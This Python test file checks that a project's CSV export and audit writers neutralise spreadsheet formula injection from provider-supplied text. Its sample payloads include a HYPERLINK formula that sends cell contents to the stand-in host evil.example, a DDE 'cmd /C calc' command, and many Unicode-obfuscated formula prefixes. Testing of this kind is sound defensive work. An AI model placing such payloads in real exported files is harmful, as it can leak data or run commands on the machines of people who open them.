"""What a spreadsheet would run: nothing of it comes from a provider, and the user's own cells stay as they are."""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import fields
from decimal import Decimal
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from prefect_seedance.ledger import AttemptRecord
from prefect_seedance.reports.audit import write_audit
from prefect_seedance.reports.formulas import as_text
from prefect_seedance.reports.results.result import GenerateResult, RowResult
from prefect_seedance.reports.results.row_result import Rows
from prefect_seedance.reports.results.tables import FOREIGN_TEXT, write_tables
from prefect_seedance.tables.reader import read_table
from tests.reports.sheets import a_batch

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1"',
    "seen; =1+1",
    'seen;"=1+1"',
    "seen\n=1+1",
    "seen\t-1",
    "=1;=2",
]
INVISIBLE = '\u200b\u200e\u202a\u2060\ufeff\xad"'


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, on the most careless reading."""
    start = "".join(each for each in cell if not each.isspace() and each not in INVISIBLE and each.isprintable())[:1]
    return unicodedata.normalize("NFKC", start) in {"=", "+", "-", "@"}


def cells(text: str) -> list[str]:
    """All cells of a file that holds this text, for a spreadsheet with any separator."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["first", text])
    whole = file.getvalue()
    found = [cell for line in csv.reader(io.StringIO(whole, newline="")) for cell in line]
    for separator in ";\t":
        for line in whole.splitlines():
            found += line.removeprefix("first,").strip().split(separator)
    return found


@given(st.sampled_from(ATTACKS) | st.text(alphabet="=+-@＝－;\t\n\r \"'\u200baé1,", max_size=12))
def test_no_text_starts_a_formula_in_any_cell(text: str) -> None:
    safe = as_text(text)
    assert not any(runs(cell) for cell in cells(safe)), safe
    assert safe.replace("'", "") == text.replace("'", "")
    assert as_text(safe) == safe


@given(
    st.text(alphabet="abc é1,.:()/", max_size=20) | st.sampled_from(["4 s, not 5 s; HDR", "x=1; y-2", "https://h/a-b"])
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert as_text(text) == text


def test_results_hold_no_formula_of_a_provider_and_the_users_own(tmp_path: Path) -> None:
    prompts = ["=cat", "-1", "@me", "+49", "＝x"]
    rows = [
        RowResult(
            prompt,
            "failed",
            cost=Decimal("-1.5"),
            **dict.fromkeys(FOREIGN_TEXT, attack),  # type: ignore[arg-type]
        )
        for prompt, attack in zip(prompts, ATTACKS, strict=False)
    ]
    own = {"id": prompts, "prompt": prompts, "error_message": prompts, "number": [-1, -2, -3, -4, -5]}
    result = GenerateResult(
        batch="b", take="1", name="", rows=Rows(rows), costs=[], costs_to_date=[], made=0, folder=tmp_path, ledger="",
        frame=pd.DataFrame(own),
    )  # fmt: skip
    path = tmp_path / "results.csv"
    with path.open("wb") as file:
        write_tables(result, file)
    with path.open(encoding="utf-8-sig", newline="") as text:
        lines = list(csv.DictReader(text))
    ours = FOREIGN_TEXT - {"error_message"} | {"seedance_error_message"}
    assert not [line[name] for line in lines for name in ours if runs(line[name])]
    assert [line["job_id"] for line in lines] == [as_text(attack) for attack in ATTACKS[: len(prompts)]]
    assert [[line[name] for line in lines] for name in ("id", "prompt", "error_message", "row")] == [prompts] * 4
    assert [(line["number"], line["cost"]) for line in lines] == [(str(-number), "-1.5") for number in range(1, 6)]
    again = read_table(path)
    assert [row.key for row in again.rows] == prompts
    assert [row.request.prompt for row in again.rows] == prompts
    assert result.to_dataframe()["job_id"].tolist() == ATTACKS[: len(prompts)]  # only the file is for spreadsheets


def test_the_audit_holds_no_formula_of_a_provider(tmp_path: Path) -> None:
    rows, attempts = a_batch(len(ATTACKS), tmp_path)
    hostile = [
        AttemptRecord(
            **{field.name: getattr(attempt, field.name) for field in fields(attempt)}
            | dict.fromkeys(("code", "message", "request_id", "job_id"), attack)
        )
        for attempt, attack in zip(attempts, ATTACKS, strict=False)
    ]
    assert write_audit(tmp_path / "audit.csv", rows, hostile) == len(hostile) > 0
    with (tmp_path / "audit.csv").open(encoding="utf-8-sig", newline="") as file:
        lines = list(csv.DictReader(file))
    assert not [
        line for line in lines for name in ("provider_code", "message", "request_id", "job_id") if runs(line[name])
    ]
    assert lines[0]["message"] == as_text(ATTACKS[0])
